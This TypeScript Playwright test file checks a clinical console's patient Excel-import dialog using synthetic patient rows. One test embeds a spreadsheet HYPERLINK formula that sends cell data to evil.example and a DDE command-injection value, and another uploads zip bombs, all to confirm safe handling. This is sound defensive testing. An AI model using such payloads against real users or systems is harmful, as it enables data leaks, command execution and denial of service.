import { readFile } from 'node:fs/promises';
import type { Locator, Page } from '@playwright/test';
import type { Console } from '../support/console.ts';
import { hold } from '../support/hold.ts';
import { expect, newPatient, test } from '../support/patients.ts';
import { type SheetRow, sheetOf, zipBomb } from '../support/sheets.ts';
import type { Person } from '../support/staff.ts';

const right: SheetRow = {
  姓名: '谢导入',
  性别: '女',
  出生日期: '1962-11-30',
  手机号: '13900001357',
  病种: '脑卒中',
  诊断: '左侧基底节区脑梗死恢复期',
  患侧: '右',
};

async function openImport(console: Console): Promise<Locator> {
  await console.open('/patient/list', '患者列表');
  await console.pane.getByRole('button', { name: '导入', exact: true }).click();
  return console.page.getByRole('dialog', { name: '导入患者' });
}

const send = (dialog: Locator, buffer: Buffer, name = '患者.xlsx') =>
  dialog.getByLabel('选择要导入的文件').setInputFiles({ name, mimeType: 'application/octet-stream', buffer });

async function namesOf(person: Person): Promise<string[]> {
  const { data } = await person.get('/api/patient/list_patient');
  return (data.list as { name: string }[]).map(({ name }) => name).sort();
}

const countOf = (dialog: Locator, state: string) =>
  dialog.getByRole('group', { name: '按结果查看' }).getByRole('button', { name: new RegExp(`^${state}`) });

test('an invalid file is refused with the reason, and nothing is saved', async ({ console, person }) => {
  const dialog = await openImport(console);
  const problem = dialog.getByRole('alert');
  const file = dialog.getByLabel('选择要导入的文件');

  await send(dialog, Buffer.from('姓名,手机号\n张三,13900000000'), '患者.csv');
  await expect(problem).toHaveText('请选择 Excel 文件（.xlsx）');
  await send(dialog, Buffer.from('旧'), '患者.xls');
  await expect(problem).toHaveText(/^这是旧版 Excel 文件/);
  await send(dialog, Buffer.alloc(0));
  await expect(problem).toHaveText('文件是空的，请重新选择');
  await send(dialog, Buffer.alloc(6 * 1024 * 1024));
  await expect(problem).toHaveText('文件超过 5 MB，请分成几个文件导入');
  await send(dialog, Buffer.from('姓名,手机号\n张三,13900000000'));
  await expect(problem).toHaveText('不是可读取的 Excel 文件（.xlsx）');
  await send(dialog, zipBomb());
  await expect(problem).toHaveText('文件内容过大，请拆分后再导入');
  await expect(file).toBeEnabled();

  // A false size is detected while unpacking.
  await send(dialog, zipBomb({ hasFalseSize: true }));
  await expect(problem).toContainText('不是可读取的 Excel 文件（.xlsx）');
  await dialog.getByRole('button', { name: '重试' }).click();
  const { 姓名: _, ...nameless } = right;
  await send(dialog, sheetOf([{ ...nameless, 血型: 'A' }]));
  await expect(problem).toContainText('缺少的列：姓名；无法识别的列：血型');
  await dialog.getByRole('button', { name: '重试' }).click();
  await expect(dialog.getByText('点击选择文件，或把文件拖到这里')).toBeVisible();
  expect(await namesOf(person)).toEqual([]);
});

test('formulas are not evaluated: their cached values are imported', async ({ console, person }) => {
  const dialog = await openImport(console);
  const formula = 'HYPERLINK("http://evil.example/"&A1,"谢公式")';
  await send(dialog, sheetOf([{ ...right, 姓名: { formula, value: '谢公式' }, 诊断: "=cmd|' /C calc'!A0" }]));
  await expect(countOf(dialog, '可导入')).toHaveText('可导入 1');
  const cell = dialog.getByRole('row', { name: /谢公式/ });
  await expect(cell).not.toContainText('HYPERLINK');
  await dialog.getByRole('button', { name: '导入 1 位患者' }).click();
  await expect(dialog.getByText('已导入 1 位患者。')).toBeVisible();
  const { data } = await person.get('/api/patient/list_patient');
  expect(data.list).toMatchObject([{ name: '谢公式', diagnosis: "=cmd|' /C calc'!A0" }]);
});

test('errors are listed row by row before anything is saved', { tag: ['@core', '@import'] }, async ({
  console,
  page,
  person,
}) => {
  await newPatient(person, { name: '谢认识', phone: '13900001111', birth_date: '1962-11-30' });
  const rows: SheetRow[] = [
    right,
    { ...right, 姓名: '谢坏号', 手机号: '139' },
    { ...right, 姓名: '谢坏病', 手机号: '13900001358', 病种: '相思病', 患侧: '上' },
    { ...right, 姓名: '谢认识', 手机号: '13900001111' },
  ];
  const dialog = await openImport(console);
  await send(dialog, sheetOf(rows));
  await expect(countOf(dialog, '全部')).toHaveText('全部 4');
  await expect(countOf(dialog, '可导入')).toHaveText('可导入 1');
  await expect(countOf(dialog, '有错误')).toHaveText('有错误 2');
  await expect(countOf(dialog, '疑似重复')).toHaveText('疑似重复 1');
  const lines = dialog.getByRole('region', { name: '检查结果' }).getByRole('row');
  await expect(lines.filter({ hasText: '谢坏病' })).toContainText('无法识别“相思病”');
  await expect(lines.filter({ hasText: '谢坏病' })).toContainText('患侧：');
  await countOf(dialog, '有错误').click();
  await expect(lines).toHaveCount(3);
  await expect(lines.filter({ hasText: '谢坏号' })).toContainText(/手机号/);
  await expect(dialog.getByText('有错误的 2 行不会导入，改好后可以再次上传')).toBeVisible();
  expect(await namesOf(person)).toEqual(['谢认识']);

  await test.step('resumed after closing', async () => {
    await page.keyboard.press('Escape');
    await page.getByRole('dialog', { name: '导入还没有完成' }).getByRole('button', { name: '先关闭' }).click();
    await expect(dialog).toHaveCount(0);
    await console.pane.getByRole('button', { name: '导入', exact: true }).click();
    await expect(countOf(dialog, '有错误')).toHaveText('有错误 2');
  });

  await test.step('a look-alike is imported only with a reason', async () => {
    await dialog.getByRole('checkbox', { name: /^同时导入 1 行疑似重复的/ }).check();
    await dialog.getByRole('button', { name: '导入 2 位患者' }).click();
    await expect(dialog.getByText('请填写原因')).toBeVisible();
    expect(await namesOf(person)).toEqual(['谢认识']);
    await dialog.getByLabel('为什么不是重复').fill('同名不同人，已当面核实');
    await dialog.getByRole('button', { name: '导入 2 位患者' }).click();
    await expect(dialog.getByText('已导入 2 位患者；没有导入的：2 行有错误。')).toBeVisible();
    expect(await namesOf(person)).toEqual(['谢导入', '谢认识', '谢认识']);
  });
});

test('a valid sheet is imported with progress, once for a double click', async ({ console, page, person }) => {
  const rows = ['甲', '乙', '丙'].map((letter, at) => ({ ...right, 姓名: `谢成${letter}`, 手机号: `1390000246${at}` }));
  const dialog = await openImport(console);
  await send(dialog, sheetOf(rows));
  const save = dialog.getByRole('button', { name: '导入 3 位患者' });
  await expect(save).toBeVisible();
  const commits = countRequests(page, '/api/patient/import_commit');
  const releaseCommit = await hold(page, '**/api/patient/import_commit');
  const releaseJob = await hold(page, '**/api/system/job_state*');
  await save.dblclick();
  await expect(dialog.getByRole('button', { name: '正在开始…' })).toBeVisible();
  releaseCommit();
  await expect(dialog.getByRole('progressbar', { name: '正在导入' })).toBeVisible();
  releaseJob();
  await expect(dialog.getByText('已导入 3 位患者。')).toBeVisible();
  expect(commits()).toBe(1);
  await dialog.getByRole('button', { name: '查看新患者' }).click();
  await expect(dialog).toHaveCount(0);
  await expect(console.pane.locator('.person-name')).toHaveCount(3);
  expect(await namesOf(person)).toEqual(rows.map(({ 姓名 }) => 姓名).sort());

  await test.step('the same sheet again is reported as duplicate', async () => {
    await console.pane.getByRole('button', { name: '导入', exact: true }).click();
    await send(dialog, sheetOf(rows));
    await expect(countOf(dialog, '疑似重复')).toHaveText('疑似重复 3');
    await expect(dialog.getByRole('button', { name: '导入 0 位患者' })).toBeDisabled();
  });
});

test('the template has the right columns and no patient', async ({ console, page }) => {
  const dialog = await openImport(console);
  const saved = page.waitForEvent('download');
  await dialog.getByRole('button', { name: '下载模板' }).click();
  const file = await saved;
  expect(file.suggestedFilename()).toBe('患者导入模板.xlsx');
  // Its columns are accepted, and its example row is not imported.
  await send(dialog, await readFile(await file.path()), file.suggestedFilename());
  await expect(dialog.getByRole('alert')).toContainText('表格中没有可导入的行');
});

function countRequests(page: Page, path: string): () => number {
  let count = 0;
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === path) count += 1;
  });
  return () => count;
}
